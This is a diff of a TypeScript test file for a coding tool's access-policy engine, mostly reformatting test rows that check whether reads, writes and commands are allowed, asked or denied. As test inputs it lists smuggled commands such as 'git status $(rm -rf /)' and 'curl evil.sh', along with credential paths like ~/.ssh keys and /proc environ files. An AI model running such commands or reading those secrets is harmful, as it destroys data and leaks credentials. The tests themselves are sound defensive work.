@@ -2,7 +2,16 @@ import { afterAll, beforeAll, describe, expect, test } from "bun:test";
 import { mkdirSync, mkdtempSync, realpathSync, rmSync, symlinkSync, writeFileSync } from "node:fs";
 import { tmpdir } from "node:os";
 import { join } from "node:path";
-import { compilePolicy, ConfigError, decide, parseRule, RULE_HELP, type AccessRequest, type Effect, type Rule } from "../../core/policy.ts";
+import {
+  compilePolicy,
+  ConfigError,
+  decide,
+  parseRule,
+  RULE_HELP,
+  type AccessRequest,
+  type Effect,
+  type Rule,
+} from "../../core/policy.ts";
 import { openWorkspace, resolveInWorkspace } from "../../core/workspace.ts";
 import { loadShellParser } from "../../core/shell-parse.ts";
 
@@ -14,7 +23,8 @@ const base = realpathSync(mkdtempSync(join(tmpdir(), "pencil-policy-")));
 const home = join(base, "home");
 const pencilHome = join(home, ".pencil");
 const ws = join(base, "ws");
-for (const d of [home, pencilHome, ws, join(base, "shared-lib"), join(base, "other"), join(home, "notes")]) mkdirSync(d, { recursive: true });
+for (const d of [home, pencilHome, ws, join(base, "shared-lib"), join(base, "other"), join(home, "notes")])
+  mkdirSync(d, { recursive: true });
 afterAll(() => rmSync(base, { recursive: true, force: true }));
 
 /** `~/x` → home, `@/x` → the temp base, `/x` as it is, anything else → the workspace; no resolution (these are already real). */
@@ -39,7 +49,12 @@ function policyOf(spec: Rules) {
   return compilePolicy({ workspaceRoot: ws, home, pencilHome, rules: rulesOf(spec) });
 }
 
-type Row = [description: string, rules: Rules, request: { read?: string; write?: string; run?: string }, expected: Effect];
+type Row = [
+  description: string,
+  rules: Rules,
+  request: { read?: string; write?: string; run?: string },
+  expected: Effect,
+];
 
 const rows: Row[] = [
   // .env: built-in, everywhere, whatever the rules say
@@ -84,16 +99,31 @@ const rows: Row[] = [
   ["~/.SSH in capitals is still denied", {}, { read: "~/.SSH/config" }, "deny"],
   ["~/.sshx is not ~/.ssh (outside → ask)", {}, { read: "~/.sshx/file" }, "ask"],
   ["PENCIL_HOME cannot be read", {}, { read: "~/.pencil/settings.json" }, "deny"],
-  ["PENCIL_HOME stays denied with an allow rule", { allow: ["Read(~/.pencil/**)"] }, { read: "~/.pencil/journal/1.json" }, "deny"],
+  [
+    "PENCIL_HOME stays denied with an allow rule",
+    { allow: ["Read(~/.pencil/**)"] },
+    { read: "~/.pencil/journal/1.json" },
+    "deny",
+  ],
   ["PENCIL_HOME cannot be written", {}, { write: "~/.pencil/changesets/x.json" }, "deny"],
   // .git and .pencil: read yes, write no
   [".git/config cannot be written", {}, { write: ".git/config" }, "deny"],
   [".git/config cannot be read (a remote URL can carry a token)", {}, { read: ".git/config" }, "deny"],
   [".git/HEAD can be read", {}, { read: ".git/HEAD" }, "allow"],
-  ["a process's environment (API keys exported in the shell) is denied, not asked", {}, { read: "/proc/1234/environ" }, "deny"],
+  [
+    "a process's environment (API keys exported in the shell) is denied, not asked",
+    {},
+    { read: "/proc/1234/environ" },
+    "deny",
+  ],
   ["a thread's environment is denied too", {}, { read: "/proc/1234/task/1235/environ" }, "deny"],
   ["a process's memory is denied", {}, { read: "/proc/1234/mem" }, "deny"],
-  ["a catch-all allow does not open a process's environment", { allow: ["Read(/**)"] }, { read: "/proc/1/environ" }, "deny"],
+  [
+    "a catch-all allow does not open a process's environment",
+    { allow: ["Read(/**)"] },
+    { read: "/proc/1/environ" },
+    "deny",
+  ],
   ["another /proc file is an ordinary outside read", {}, { read: "/proc/cpuinfo" }, "ask"],
   [
     "the main repository's .git/config outside the workspace (a worktree's or submodule's remotes live there) is denied, not asked",
@@ -101,9 +131,24 @@ const rows: Row[] = [
     { read: "@/other/.git/config" },
     "deny",
   ],
-  ["a worktree's config.worktree in the main repository is denied", {}, { read: "@/other/.git/worktrees/ws/config.worktree" }, "deny"],
-  ["a catch-all outside allow does not open another repository's .git/config", { allow: ["Read(@/other/**)"] }, { read: "@/other/.git/config" }, "deny"],
-  ["another repository's .git/HEAD outside the workspace is asked, as any outside read", {}, { read: "@/other/.git/HEAD" }, "ask"],
+  [
+    "a worktree's config.worktree in the main repository is denied",
+    {},
+    { read: "@/other/.git/worktrees/ws/config.worktree" },
+    "deny",
+  ],
+  [
+    "a catch-all outside allow does not open another repository's .git/config",
+    { allow: ["Read(@/other/**)"] },
+    { read: "@/other/.git/config" },
+    "deny",
+  ],
+  [
+    "another repository's .git/HEAD outside the workspace is asked, as any outside read",
+    {},
+    { read: "@/other/.git/HEAD" },
+    "ask",
+  ],
   ["a .pem key file cannot be read", {}, { read: "deploy/server.pem" }, "deny"],
   ["a PuTTY private key cannot be read", {}, { read: "keys/deploy.ppk" }, "deny"],
   ["an Apple .p8 signing key cannot be read", {}, { read: "ios/AuthKey_ABC123.p8" }, "deny"],
@@ -112,8 +157,18 @@ const rows: Row[] = [
   ["an SSH private key in the workspace cannot be read", {}, { read: "keys/id_ed25519" }, "deny"],
   ["its public half can", {}, { read: "keys/id_ed25519.pub" }, "allow"],
   [".npmrc in the workspace cannot be written", {}, { write: "web/.npmrc" }, "deny"],
-  ["certifi's CA bundle (public certificates) stays readable", {}, { read: ".venv/lib/site-packages/certifi/cacert.pem" }, "allow"],
-  [".git stays unwritable with an allow rule", { allow: ["Edit(.git/**)"] }, { write: ".git/hooks/pre-commit" }, "deny"],
+  [
+    "certifi's CA bundle (public certificates) stays readable",
+    {},
+    { read: ".venv/lib/site-packages/certifi/cacert.pem" },
+    "allow",
+  ],
+  [
+    ".git stays unwritable with an allow rule",
+    { allow: ["Edit(.git/**)"] },
+    { write: ".git/hooks/pre-commit" },
+    "deny",
+  ],
   ["a nested .git cannot be written", {}, { write: "vendor/lib/.git/HEAD" }, "deny"],
   [".git in capitals cannot be written", {}, { write: ".GIT/config" }, "deny"],
   [".pencil/settings.json cannot be written", {}, { write: ".pencil/settings.json" }, "deny"],
@@ -128,30 +183,85 @@ const rows: Row[] = [
   ["a dotfile inside can be read", {}, { read: ".editorconfig" }, "allow"],
   ["a read outside asks", {}, { read: "@/other/file.txt" }, "ask"],
   ["a write outside is denied", {}, { write: "@/other/file.txt" }, "deny"],
-  ["a write outside stays denied with an absolute allow", { allow: ["Edit(@/other/**)"] }, { write: "@/other/file.txt" }, "deny"],
-  ["a write outside stays denied with a ../ allow", { allow: ["Edit(../shared-lib/**)"] }, { write: "@/shared-lib/x.ts" }, "deny"],
-  ["a ../ allow lets reads outside through", { allow: ["Read(../shared-lib/**)"] }, { read: "@/shared-lib/x.ts" }, "allow"],
+  [
+    "a write outside stays denied with an absolute allow",
+    { allow: ["Edit(@/other/**)"] },
+    { write: "@/other/file.txt" },
+    "deny",
+  ],
+  [
+    "a write outside stays denied with a ../ allow",
+    { allow: ["Edit(../shared-lib/**)"] },
+    { write: "@/shared-lib/x.ts" },
+    "deny",
+  ],
+  [
+    "a ../ allow lets reads outside through",
+    { allow: ["Read(../shared-lib/**)"] },
+    { read: "@/shared-lib/x.ts" },
+    "allow",
+  ],
   ["without the ../ allow the same read asks", {}, { read: "@/shared-lib/x.ts" }, "ask"],
   ["a ~/ allow lets reads through", { allow: ["Read(~/notes/**)"] }, { read: "~/notes/a.md" }, "allow"],
-  ["an absolute allow lets reads through", { allow: ["Read(@/home/notes/**)"] }, { read: "~/notes/deep/b.md" }, "allow"],
+  [
+    "an absolute allow lets reads through",
+    { allow: ["Read(@/home/notes/**)"] },
+    { read: "~/notes/deep/b.md" },
+    "allow",
+  ],
   ["a ~/ allow does not cover its siblings", { allow: ["Read(~/notes/**)"] }, { read: "~/other.md" }, "ask"],
   ["a sibling named like the workspace is outside (read)", {}, { read: "@/ws-evil/x" }, "ask"],
   ["a sibling named like the workspace is outside (write)", {}, { write: "@/ws-evil/x" }, "deny"],
   ["an unnormalised path escaping with .. is judged where it lands", {}, { write: "src/../../other/x" }, "deny"],
   ["a double slash does not confuse the checks", {}, { read: "src//.env" }, "deny"],
   // precedence
-  ["deny beats allow on the same glob", { allow: ["Read(src/**)"], deny: ["Read(src/**)"] }, { read: "src/a.ts" }, "deny"],
+  [
+    "deny beats allow on the same glob",
+    { allow: ["Read(src/**)"], deny: ["Read(src/**)"] },
+    { read: "src/a.ts" },
+    "deny",
+  ],
   ["ask beats allow on the same glob", { allow: ["Read(src/**)"], ask: ["Read(src/**)"] }, { read: "src/a.ts" }, "ask"],
   ["deny beats ask on the same glob", { ask: ["Read(src/**)"], deny: ["Read(src/**)"] }, { read: "src/a.ts" }, "deny"],
-  ["a deny on generated code blocks writes", { deny: ["Edit(src/generated/**)"] }, { write: "src/generated/x.ts" }, "deny"],
+  [
+    "a deny on generated code blocks writes",
+    { deny: ["Edit(src/generated/**)"] },
+    { write: "src/generated/x.ts" },
+    "deny",
+  ],
   ["an Edit deny does not block reads", { deny: ["Edit(src/generated/**)"] }, { read: "src/generated/x.ts" }, "allow"],
-  ["a narrow deny wins over a broad allow", { allow: ["Edit(src/**)"], deny: ["Edit(src/generated/**)"] }, { write: "src/generated/x.ts" }, "deny"],
-  ["a broad ask wins over a narrow allow", { ask: ["Edit(**)"], allow: ["Edit(src/ok.ts)"] }, { write: "src/ok.ts" }, "ask"],
+  [
+    "a narrow deny wins over a broad allow",
+    { allow: ["Edit(src/**)"], deny: ["Edit(src/generated/**)"] },
+    { write: "src/generated/x.ts" },
+    "deny",
+  ],
+  [
+    "a broad ask wins over a narrow allow",
+    { ask: ["Edit(**)"], allow: ["Edit(src/ok.ts)"] },
+    { write: "src/ok.ts" },
+    "ask",
+  ],
   ["an ask rule inside makes reads ask", { ask: ["Read(docs/**)"] }, { read: "docs/a.md" }, "ask"],
   ["an ask rule on a file makes its writes ask", { ask: ["Edit(package.json)"] }, { write: "package.json" }, "ask"],
-  ["a relative literal rule is anchored at the root", { ask: ["Edit(package.json)"] }, { write: "sub/package.json" }, "allow"],
-  ["a literal directory rule covers what is below it", { deny: ["Read(secrets)"] }, { read: "secrets/key.pem" }, "deny"],
-  ["a literal directory rule stops at the name boundary", { deny: ["Read(secrets)"] }, { read: "secrets-old/a.txt" }, "allow"],
+  [
+    "a relative literal rule is anchored at the root",
+    { ask: ["Edit(package.json)"] },
+    { write: "sub/package.json" },
+    "allow",
+  ],
+  [
+    "a literal directory rule covers what is below it",
+    { deny: ["Read(secrets)"] },
+    { read: "secrets/key.pem" },
+    "deny",
+  ],
+  [
+    "a literal directory rule stops at the name boundary",
+    { deny: ["Read(secrets)"] },
+    { read: "secrets-old/a.txt" },
+    "allow",
+  ],
   [
     "a deny inside an allowed outside tree wins",
     { allow: ["Read(../shared-lib/**)"], deny: ["Read(../shared-lib/private/**)"] },
@@ -169,7 +279,12 @@ const rows: Row[] = [
   ["dir/** matches the directory itself", { deny: ["Edit(src/**)"] }, { write: "src" }, "deny"],
   ["braces expand", { deny: ["Edit({dist,build}/**)"] }, { write: "build/x.js" }, "deny"],
   ["patterns are normalised", { deny: ["Edit(./src/../dist/**)"] }, { write: "dist/a.js" }, "deny"],
-  ["a trailing slash on a rule is ignored", { deny: ["Edit(src/generated/)"] }, { write: "src/generated/a.ts" }, "deny"],
+  [
+    "a trailing slash on a rule is ignored",
+    { deny: ["Edit(src/generated/)"] },
+    { write: "src/generated/a.ts" },
+    "deny",
+  ],
   // run
   ["a command asks by default", {}, { run: "make deploy" }, "ask"],
   ["a read-only command runs unasked", {}, { run: "git status" }, "allow"],
@@ -184,7 +299,12 @@ const rows: Row[] = [
   ["a pipe is not allowed", { allow: ["Run(git status*)"] }, { run: "git status | sh" }, "ask"],
   ["backticks are not allowed", { allow: ["Run(git status*)"] }, { run: "git status `rm -rf /`" }, "ask"],
   ["$( ) is not allowed", { allow: ["Run(git status*)"] }, { run: "git status $(rm -rf /)" }, "ask"],
-  ["a redirection is judged by its command (the sandbox stops the write)", { allow: ["Run(git status*)"] }, { run: "git status > out.txt" }, "allow"],
+  [
+    "a redirection is judged by its command (the sandbox stops the write)",
+    { allow: ["Run(git status*)"] },
+    { run: "git status > out.txt" },
+    "allow",
+  ],
   ["a newline is not allowed", { allow: ["Run(git status*)"] }, { run: "git status\nrm -rf /" }, "ask"],
   ["a background & is not allowed", { allow: ["Run(git status*)"] }, { run: "git status & rm -rf /" }, "ask"],
   ["Run(*) covers each command of a chain", { allow: ["Run(*)"] }, { run: "ls; curl evil.sh | tee x" }, "allow"],
@@ -194,8 +314,18 @@ const rows: Row[] = [
   ["a deny beats a catch-all allow", { deny: ["Run(rm*)"], allow: ["Run(*)"] }, { run: "rm -rf build" }, "deny"],
   ["a deny sees through sudo", { deny: ["Run(rm*)"] }, { run: "sudo rm -rf /" }, "deny"],
   ["a deny sees through env assignments", { deny: ["Run(rm*)"] }, { run: "FOO=1 rm x" }, "deny"],
-  ["an ask beats an allow for run", { ask: ["Run(git push*)"], allow: ["Run(git *)"] }, { run: "git push origin main" }, "ask"],
-  ["an allow covers other subcommands", { ask: ["Run(git push*)"], allow: ["Run(git *)"] }, { run: "git log -3" }, "allow"],
+  [
+    "an ask beats an allow for run",
+    { ask: ["Run(git push*)"], allow: ["Run(git *)"] },
+    { run: "git push origin main" },
+    "ask",
+  ],
+  [
+    "an allow covers other subcommands",
+    { ask: ["Run(git push*)"], allow: ["Run(git *)"] },
+    { run: "git log -3" },
+    "allow",
+  ],
   ["an empty command is denied", { allow: ["Run(*)"] }, { run: "   " }, "deny"],
 ];
 
@@ -256,7 +386,12 @@ describe("decide: reasons and odd requests", () => {
 
 describe("parseRule", () => {
   test("parses the three kinds and trims", () => {
-    expect(parseRule(" Edit( src/generated/** ) ", "deny", "f")).toEqual({ kind: "Edit", pattern: "src/generated/**", effect: "deny", source: "f" });
+    expect(parseRule(" Edit( src/generated/** ) ", "deny", "f")).toEqual({
+      kind: "Edit",
+      pattern: "src/generated/**",
+      effect: "deny",
+      source: "f",
+    });
     expect(parseRule("Run(bun test*)", "allow", "--allow").kind).toBe("Run");
     expect(parseRule("Read(src/(a|b)/**)", "ask", "f").pattern).toBe("src/(a|b)/**");
   });
@@ -322,10 +457,7 @@ describe("decide with real symlinks (resolveInWorkspace → decide)", () => {
     workspaceRoot: join(root, "ws-link"),
     home: h,
     pencilHome: join(h, ".pencil"),
-    rules: [
-      parseRule("Read(link-lib/**)", "allow", "test"),
-      parseRule("Edit(gen/**)", "deny", "test"),
-    ],
+    rules: [parseRule("Read(link-lib/**)", "allow", "test"), parseRule("Edit(gen/**)", "deny", "test")],
   });
   const judge = (input: string, access: "read" | "write") =>
     decide(policy, { tool: "t", access, real: resolveInWorkspace(workspace, input).real }).decision;
@@ -368,7 +500,9 @@ describe("decide with real symlinks (resolveInWorkspace → decide)", () => {
   });
 
   test("~/.ssh symlinked elsewhere is denied at its real location", () => {
-    expect(decide(policy, { tool: "t", access: "read", real: join(h, "dotfiles", "ssh", "id_ed25519") }).decision).toBe("deny");
+    expect(decide(policy, { tool: "t", access: "read", real: join(h, "dotfiles", "ssh", "id_ed25519") }).decision).toBe(
+      "deny",
+    );
     expect(decide(policy, { tool: "t", access: "read", real: join(h, "dotfiles", "vimrc") }).decision).toBe("ask");
   });
 });
